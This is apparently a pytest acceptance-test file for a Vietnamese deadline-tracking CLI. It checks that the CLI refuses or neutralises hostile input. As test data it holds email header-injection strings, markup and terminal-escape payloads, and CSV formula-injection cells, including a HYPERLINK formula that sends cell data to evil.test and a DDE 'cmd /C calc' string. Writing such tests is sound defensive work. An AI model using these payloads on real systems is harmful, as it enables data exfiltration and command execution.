"""Untrusted input where it enters, stored text where it is printed (issues 7 and 12).

Each test runs the ``hanchot`` command in its own directory (the ``site`` of
test_cli_store: the shipped config/, two rules, the database in var/), with the
probe's exact inputs, and checks the exit code, the message and the database.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
import sqlalchemy as sa

from tests.acceptance.test_cli_store import ROOT, RULES, hanchot

BCC_ID = "qd-1\r\nBcc: evil@attacker.test"
NOW = ["--now", "2022-03-16T09:00+07:00"]


@pytest.fixture
def site(tmp_path: Path) -> Path:
    shutil.copytree(ROOT / "config", tmp_path / "config")
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "plan.yaml").write_text(
        RULES
        + """\
  - id: quy-trinh-noi-bo-uy-quyen
    title: Trình phê duyệt quy trình nội bộ (ủy quyền)
    lead: qlcn
    due: {after: publication, in: 15 days, when: {delegated: true}}
""",
        encoding="utf-8",
    )
    return tmp_path


def db(site: Path) -> sa.Engine:
    return sa.create_engine(f"sqlite:///{site / 'var' / 'hanchot.db'}")


def rows(site: Path, sql: str) -> list[tuple]:
    with db(site).connect() as c:
        return [tuple(r) for r in c.execute(sa.text(sql))]


def add(site: Path, *args: str):
    return hanchot(site, "event", "add", *args, *NOW)


# ------------------------------------------------------------------ entry (12.1, 12.14, 7.11)
def test_event_add_refuses_the_header_injection_id_and_writes_nothing(site):
    r = add(site, "publication", "--id", BCC_ID, "--date", "2022-03-11")
    assert r.returncode == 2
    assert r.stderr == (
        "hanchot: event id 'qd-1\\r\\nBcc: evil@attacker.test' may contain only letters A-Z "
        "and a-z, digits, '.', '_', '-' and '/', and must start with a letter or digit "
        "(e.g. qd-0425)\n"
    )
    assert "Traceback" not in r.stderr
    assert not (site / "var" / "hanchot.db").exists()  # refused before the store opens


def test_event_add_and_csv_import_refuse_bad_type_alike(site):
    # Issue 12.14: `event add "Bad Type"` was accepted while the CSV import refused it.
    r = add(site, "Bad Type", "--id", "qd-0425", "--date", "2022-03-11")
    assert r.returncode == 2
    message = "event type 'Bad Type' may contain only a-z, 0-9, '-' and '_'"
    assert r.stderr == f"hanchot: {message}\n"
    (site / "events.csv").write_text("type,id,date\nBad Type,qd-0425,2022-03-11\n", "utf-8")
    r = hanchot(site, "event", "import", "events.csv", *NOW)
    assert (r.returncode, r.stderr) == (2, f"events.csv:2: {message}\n")


def test_event_add_refuses_bad_attribute_names_and_values(site):
    r = add(site, "publication", "--id", "qd-1", "--date", "2022-03-11", "--set", "Bcc: x=1")
    assert r.returncode == 2 and "attribute name 'Bcc: x' may contain only" in r.stderr
    r = add(site, "publication", "--id", "qd-1", "--date", "2022-03-11", "--set", "ghi_chu=a\r\nb")
    assert r.returncode == 2 and "attribute ghi_chu contains a line break" in r.stderr


def test_event_type_no_rule_uses_is_an_error_unless_allowed(site):
    # Issue 7.11: `event add publicaton …` succeeded silently with 0 new deadlines.
    r = add(site, "publicaton", "--id", "qd-0425", "--date", "2022-03-11")
    assert r.returncode == 2
    assert r.stderr == (
        "hanchot: no rule starts from event type 'publicaton' (did you mean 'publication'?); "
        "the rules use: publication (--allow-unused-type records it anyway)\n"
    )
    assert not (site / "var" / "hanchot.db").exists()
    r = add(site, "publicaton", "--id", "qd-0425", "--date", "2022-03-11", "--allow-unused-type")
    assert r.returncode == 0, r.stderr
    assert rows(site, "SELECT type, event_id FROM events") == [("publicaton", "qd-0425")]
    (site / "events.csv").write_text("type,id,date\ntraining-cal,cv-1,2022-03-11\n", "utf-8")
    r = hanchot(site, "event", "import", "events.csv", *NOW)
    assert r.returncode == 2
    assert r.stderr.startswith("events.csv:2: no rule starts from event type 'training-cal'")
    r = hanchot(site, "event", "import", "events.csv", "--allow-unused-type", *NOW)
    assert r.returncode == 0, r.stderr


def test_import_with_a_bad_boolean_fails_with_the_row_and_records_nothing(site):
    # Issue 12.7: `delegated=maybe` imported with "0 hạn mới".
    (site / "events.csv").write_text(
        "type,id,date,delegated\n"
        "publication,qd-0425,2022-03-11,false\n"
        "publication,qd-0426,2022-03-11,maybe\n",
        encoding="utf-8",
    )
    r = hanchot(site, "event", "import", "events.csv", *NOW)
    assert r.returncode == 2
    assert r.stderr == (
        "events.csv:3: attribute delegated='maybe' must be true or false: "
        "rule quy-trinh-noi-bo-uy-quyen compares it with 'true'\n"
    )
    assert not (site / "var" / "hanchot.db").exists()
    r = add(site, "publication", "--id", "qd-1", "--date", "2022-03-11", "--set", "delegated=yes")
    assert r.returncode == 2 and "attribute delegated='yes' must be true or false" in r.stderr


def test_a_delegated_publication_starts_the_15_day_rule(site):
    r = add(site, "publication", "--id", "qd-9", "--date", "2022-03-11", "--set", "delegated=TRUE")
    assert r.returncode == 0, r.stderr
    got = rows(site, "SELECT rule_id, due FROM deadlines WHERE key = 'qd-9' ORDER BY rule_id")
    # 11/03/2022 + 30 days = Sun 10/04 (Giỗ Tổ; Mon 11/04 off in lieu) → Tue 12/04 (Điều
    # 147–148; roll forward); + 15 days = Sat 26/03 → Mon 28/03. The README's rule 11
    # has no `when`, so both rules of this site start from a delegated publication.
    assert got == [
        ("quy-trinh-noi-bo", "2022-04-12"),
        ("quy-trinh-noi-bo-uy-quyen", "2022-03-28"),
    ]


# ------------------------------------------------------------------ stored text (12.5)
def _smuggle(site: Path, event_id: str) -> None:
    """An event recorded before the checks existed (written straight into the store)."""
    assert add(site, "publication", "--id", "qd-ok", "--date", "2022-03-11").returncode == 0
    with db(site).begin() as c:
        c.execute(
            sa.text(
                "INSERT INTO events (type, event_id, date, attrs, recorded_by, recorded_at) "
                "VALUES ('publication', :id, '2022-03-15', '{\"note\": \"[bold]x\"}', "
                "'[link=http://evil.test]me[/link]', '2022-03-15 02:00:00')"
            ),
            {"id": event_id},
        )


@pytest.mark.parametrize("stored", ["[/]", "[link=http://evil.test]bấm[/link]", "\x1b[2J\x1b]0;x"])
def test_stored_markup_and_escapes_print_as_text(site, stored):
    _smuggle(site, stored)
    shown = stored.replace("\x1b", "\\x1b")
    r = hanchot(site, "event", "list")
    assert r.returncode == 0, r.stderr
    assert shown in r.stdout and "\x1b" not in r.stdout
    assert "[link=http://evil.test]me[/link]" in r.stdout and "[bold]x" in r.stdout
    for fmt in ("table", "tsv"):
        r = hanchot(site, "status", "--all", "--format", fmt, *NOW)
        assert r.returncode == 0, r.stderr
        assert shown in r.stdout and "\x1b" not in r.stdout


def test_event_remove_cancels_open_deadlines_and_is_audited(site):
    assert add(site, "publication", "--id", "qd-0425", "--date", "2022-03-15").returncode == 0
    r = hanchot(site, "event", "remove", "publication", "qd-0425", "--by", "admin", *NOW)
    assert r.returncode == 2 and "--reason" in r.stderr  # the reason is required
    r = hanchot(
        site,
        "event",
        "remove",
        "publication",
        "qd-0425",
        "--reason",
        "ghi nhầm ngày",
        "--by",
        "admin",
        *NOW,
    )
    assert r.returncode == 0, r.stderr
    assert rows(site, "SELECT count(*) FROM events") == [(0,)]
    assert rows(site, "SELECT rule_id, key, status FROM deadlines WHERE key = 'qd-0425'") == [
        ("quy-trinh-noi-bo", "qd-0425", "cancelled")
    ]
    audit = rows(
        site, "SELECT action, entity, actor, old, reason FROM audit_log ORDER BY id DESC LIMIT 2"
    )
    cancel, remove = audit
    assert cancel[:3] == ("cancel", "deadline", "admin")
    assert cancel[4] == "event publication qd-0425 removed: ghi nhầm ngày"
    assert remove[:3] == ("remove", "event", "admin") and remove[4] == "ghi nhầm ngày"
    assert json.loads(remove[3])["date"] == "2022-03-15"
    # Corrected: recorded again with the right date, the deadline reopens, moved.
    assert add(site, "publication", "--id", "qd-0425", "--date", "2022-03-16").returncode == 0
    # 16/03/2022 + 30 days = Fri 15/04/2022, a working day (Điều 147: count from 17/03).
    assert rows(site, "SELECT due, status FROM deadlines WHERE key = 'qd-0425'") == [
        ("2022-04-15", "open")
    ]


def test_event_remove_of_a_smuggled_id_and_of_an_unknown_one(site):
    _smuggle(site, BCC_ID)
    r = hanchot(site, "event", "remove", "publication", BCC_ID, "--reason", "id độc hại", *NOW)
    assert r.returncode == 0, r.stderr
    assert "qd-1\\r\\nBcc: evil@attacker.test" in r.stdout
    assert rows(site, "SELECT event_id FROM events") == [("qd-ok",)]
    assert rows(site, f"SELECT status FROM deadlines WHERE key = '{BCC_ID}'") == [("cancelled",)]
    r = hanchot(site, "event", "remove", "publication", "khong-co", "--reason", "x", *NOW)
    assert r.returncode == 2
    assert "no event publication 'khong-co' is recorded" in r.stderr


def test_event_remove_keeps_a_done_deadline(site):
    assert add(site, "publication", "--id", "qd-0425", "--date", "2022-03-15").returncode == 0
    r = hanchot(site, "done", "quy-trinh-noi-bo", "qd-0425", "--evidence", "QĐ 1", *NOW)
    assert r.returncode == 0, r.stderr
    r = hanchot(site, "event", "remove", "publication", "qd-0425", "--reason", "x", *NOW)
    assert r.returncode == 0, r.stderr
    assert "quy-trinh-noi-bo qd-0425" in r.stdout and "done" in r.stdout
    assert rows(site, "SELECT status FROM deadlines WHERE key = 'qd-0425'") == [("done",)]


# ------------------------------------------------------------------ status (7.14)
def test_status_piped_is_tab_separated_with_whole_ids(site):
    long_id = "512/QD-UBND-" + "x" * 60
    assert add(site, "publication", "--id", long_id, "--date", "2022-03-15").returncode == 0
    r = hanchot(site, "status", "--now", "2022-04-13T09:00+07:00", env={"COLUMNS": "30"})
    assert r.returncode == 0, r.stderr
    header, line = r.stdout.splitlines()
    assert header.split("\t") == [
        "state",
        "due",
        "working_days_left",
        "rule",
        "key",
        "title",
        "lead",
        "lead_name",
    ]
    # 15/03/2022 + 30 days = Thu 14/04/2022; on 13/04 one working day is left.
    assert line.split("\t") == [
        "due-soon",
        "2022-04-14",
        "1",
        "quy-trinh-noi-bo",
        long_id,
        "Trình phê duyệt quy trình nội bộ giải quyết TTHC",
        "qlcn",
        "Phòng Quản lý Công nghiệp",
    ]


# ------------------------------------------------------------------ CSV export (12.6)
def test_plan_csv_neutralises_formulas(site):
    (site / "rules" / "plan.yaml").write_text(
        """\
rules:
  - id: bao-cao
    title: '=HYPERLINK("http://evil.test/?d="&A1,"Bấm để xem")'
    basis: +cmd|' /C calc'!A0
    output: "@SUM(1)"
    plan_item: "-2+3"
    lead: van-phong
    due: {on: 2022-07-29}
""",
        encoding="utf-8",
    )
    r = hanchot(site, "plan", "--from", "2022-01-01", "--to", "2022-12-31", "--format", "csv")
    assert r.returncode == 0, r.stderr
    (row,) = list(csv.DictReader(io.StringIO(r.stdout)))
    assert row["title"] == '\'=HYPERLINK("http://evil.test/?d="&A1,"Bấm để xem")'
    assert row["basis"] == "'+cmd|' /C calc'!A0"
    assert row["output"] == "'@SUM(1)"
    assert row["plan_item"] == "'-2+3"
    assert row["due"] == "2022-07-29"  # an ordinary cell is unchanged
    # JSON is for programs: the text as written.
    r = hanchot(site, "plan", "--from", "2022-01-01", "--to", "2022-12-31", "--format", "json")
    assert json.loads(r.stdout)[0]["output"] == "@SUM(1)"


def test_plan_events_file_with_a_bad_boolean_is_an_error_not_a_missing_deadline(site):
    (site / "ev.csv").write_text(
        "type,id,date,delegated\npublication,qd-1,2022-03-11,maybe\n", encoding="utf-8"
    )
    for cmd in (["plan", "--from", "2022-01-01", "--to", "2022-12-31"], ["check"]):
        r = hanchot(site, *cmd, "--events", "ev.csv")
        assert r.returncode == 2, cmd
        assert r.stderr.startswith("ev.csv:2: attribute delegated='maybe' must be true or false")


# ------------------------------------------------------------------ check (12.2)
def test_check_rejects_line_breaks_in_names_that_reach_mail_headers(site):
    settings = site / "config" / "settings.yaml"
    text = settings.read_text(encoding="utf-8")
    settings.write_text(
        text.replace(
            'sender: {name: "Hệ thống nhắc hạn Sở Công Thương Khánh Hòa",',
            'sender: {name: "Nhắc hạn\\r\\nBcc: evil@attacker.test",',
        ),
        encoding="utf-8",
    )
    line = (
        text.splitlines().index(next(x for x in text.splitlines() if x.startswith("sender:"))) + 1
    )
    units = site / "config" / "units.yaml"
    units.write_text(
        units.read_text(encoding="utf-8").replace(
            "name: Văn phòng Sở\n", 'name: "Văn phòng Sở\\nX-Evil: 1"\n'
        ),
        encoding="utf-8",
    )
    r = hanchot(site, "check")
    assert r.returncode == 2 and "Traceback" not in r.stderr
    errors = r.stderr.splitlines()
    assert errors[0] == (
        f"config/settings.yaml:{line}: sender.name: sender name contains a line break ('\\r'); "
        "a name goes into mail headers: write it on one line"
    )
    assert errors[1].startswith("config/units.yaml:")
    assert errors[1].endswith(
        "units.van-phong.name: unit name contains a line break ('\\n'); "
        "a name goes into mail headers: write it on one line"
    )
    assert len(errors) == 2


def test_event_add_refuses_markup_ids_so_list_and_status_keep_working(site):
    # Issue 12.5, exactly: `event add publication --id '[/]'` broke event list and
    # status --all for good (MarkupError).
    r = add(site, "publication", "--id", "[/]", "--date", "2022-03-11")
    assert r.returncode == 2 and "event id '[/]' may contain only" in r.stderr
    assert add(site, "publication", "--id", "qd-0425", "--date", "2022-03-11").returncode == 0
    assert hanchot(site, "event", "list").returncode == 0
    assert hanchot(site, "status", "--all", "--format", "table", *NOW).returncode == 0
